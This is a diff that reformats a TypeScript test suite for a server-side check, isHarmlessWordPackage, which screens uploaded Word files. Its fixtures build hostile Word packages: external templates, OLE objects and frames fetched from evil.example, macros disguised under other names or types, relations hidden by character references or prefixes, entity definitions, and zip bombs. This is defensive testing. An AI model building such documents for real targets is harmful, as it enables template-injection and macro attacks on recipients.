@@ -7,7 +7,11 @@ const kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationshi
 /** A Word document whose settings have one relation. */
 function documentWith(kind: string, target: string, part = "word/_rels/settings.xml.rels") {
   const text = `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
-  return zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, { name: part, text }]);
+  return zip([
+    { name: "[Content_Types].xml" },
+    { name: "word/document.xml" },
+    { name: part, text },
+  ]);
 }
 
 test.each([
@@ -16,10 +20,15 @@ test.each([
   ["attachedTemplate", "file://evil.example/share/t.dotm"],
   ["oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"],
   ["frame", "http://evil.example/frame.html"],
-])("Q-25 a Word document that fetches a %s from %s is refused by the server", async (kind, target) => {
-  expect(await isHarmlessWordPackage(documentWith(kind, target))).toBe(false);
-  expect(await isHarmlessWordPackage(documentWith(kind, target, "word/_rels/document.xml.rels"))).toBe(false);
-});
+])(
+  "Q-25 a Word document that fetches a %s from %s is refused by the server",
+  async (kind, target) => {
+    expect(await isHarmlessWordPackage(documentWith(kind, target))).toBe(false);
+    expect(
+      await isHarmlessWordPackage(documentWith(kind, target, "word/_rels/document.xml.rels")),
+    ).toBe(false);
+  },
+);
 
 test.each([
   ["attachedTemplate", "file:///C:\\Users\\Mona\\Templates\\Normal.dotm"],
@@ -36,26 +45,62 @@ test("Q-23 a plain Word document is harmless", async () => {
 
 test("Q-25 relations that cannot be unpacked, or unpack to megabytes, count as bad", async () => {
   const broken = documentWith("hyperlink", "https://ro2ya.example/");
-  const at = Buffer.from(broken).indexOf("word/_rels/settings.xml.rels") + "word/_rels/settings.xml.rels".length;
+  const at =
+    Buffer.from(broken).indexOf("word/_rels/settings.xml.rels") +
+    "word/_rels/settings.xml.rels".length;
   broken.fill(0xff, at, at + 20);
   expect(await isHarmlessWordPackage(broken)).toBe(false);
-  expect(await isHarmlessWordPackage(documentWith("hyperlink", `https://ro2ya.example/${"x".repeat(2_000_000)}`))).toBe(false);
+  expect(
+    await isHarmlessWordPackage(
+      documentWith("hyperlink", `https://ro2ya.example/${"x".repeat(2_000_000)}`),
+    ),
+  ).toBe(false);
 });
 
-const document = (parts: Parameters<typeof zip>[0]) => zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
-const relation = (attributes: string) => [{ name: "word/_rels/document.xml.rels", text: `<Relationships><Relationship ${attributes}/></Relationships>` }];
+const document = (parts: Parameters<typeof zip>[0]) =>
+  zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
+const relation = (attributes: string) => [
+  {
+    name: "word/_rels/document.xml.rels",
+    text: `<Relationships><Relationship ${attributes}/></Relationships>`,
+  },
+];
 
 test.each([
-  ["its relation names macros under another file name", document(relation(`Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"`))],
+  [
+    "its relation names macros under another file name",
+    document(
+      relation(
+        `Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"`,
+      ),
+    ),
+  ],
   [
     "its list of types names macros",
     zip([
-      { name: "[Content_Types].xml", text: `<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>` },
+      {
+        name: "[Content_Types].xml",
+        text: `<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
+      },
       { name: "word/document.xml" },
     ]),
   ],
-  ["the relation hides behind a > in its target", document(relation(`Target="http://evil.example/?a>b" Type="${kinds}/attachedTemplate" TargetMode="External"`))],
-  ["the relation hides behind character references", document(relation(`Target="http://evil.example/" Type="${kinds}/attached&#84;emplate" TargetMode="Ext&#x65;rnal"`))],
+  [
+    "the relation hides behind a > in its target",
+    document(
+      relation(
+        `Target="http://evil.example/?a>b" Type="${kinds}/attachedTemplate" TargetMode="External"`,
+      ),
+    ),
+  ],
+  [
+    "the relation hides behind character references",
+    document(
+      relation(
+        `Target="http://evil.example/" Type="${kinds}/attached&#84;emplate" TargetMode="Ext&#x65;rnal"`,
+      ),
+    ),
+  ],
   [
     "the relation stands under a prefix",
     document([
@@ -67,17 +112,38 @@ test.each([
   ],
   [
     "the relations stand beside a part in another folder",
-    document([{ name: "elsewhere/_rels/main.xml.rels", text: `<Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/>` }]),
+    document([
+      {
+        name: "elsewhere/_rels/main.xml.rels",
+        text: `<Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/>`,
+      },
+    ]),
   ],
-  ["the relations define entities", document([{ name: "word/_rels/document.xml.rels", text: `<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>` }])],
-  ["a part unpacks to more than its directory says", document([{ name: "word/media/picture.bin", text: "x".repeat(100_000), unpackedBytes: 10 }])],
-  ["a part unpacks to less than its directory says", document([{ name: "word/media/picture.bin", text: "x".repeat(10), unpackedBytes: 100_000 }])],
+  [
+    "the relations define entities",
+    document([
+      {
+        name: "word/_rels/document.xml.rels",
+        text: `<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>`,
+      },
+    ]),
+  ],
+  [
+    "a part unpacks to more than its directory says",
+    document([{ name: "word/media/picture.bin", text: "x".repeat(100_000), unpackedBytes: 10 }]),
+  ],
+  [
+    "a part unpacks to less than its directory says",
+    document([{ name: "word/media/picture.bin", text: "x".repeat(10), unpackedBytes: 100_000 }]),
+  ],
 ])("Q-25 a Word document is refused where %s", async (_where, bytes) => {
   expect(await isHarmlessWordPackage(bytes)).toBe(false);
 });
 
 test("Q-25 a bomb of which the directory says little is left at its first byte too many", async () => {
-  const bomb = document([{ name: "word/media/picture.bin", text: "\0".repeat(50_000_000), unpackedBytes: 10 }]);
+  const bomb = document([
+    { name: "word/media/picture.bin", text: "\0".repeat(50_000_000), unpackedBytes: 10 },
+  ]);
   expect(bomb.length).toBeLessThan(100_000);
   expect(await isHarmlessWordPackage(bomb)).toBe(false);
 });
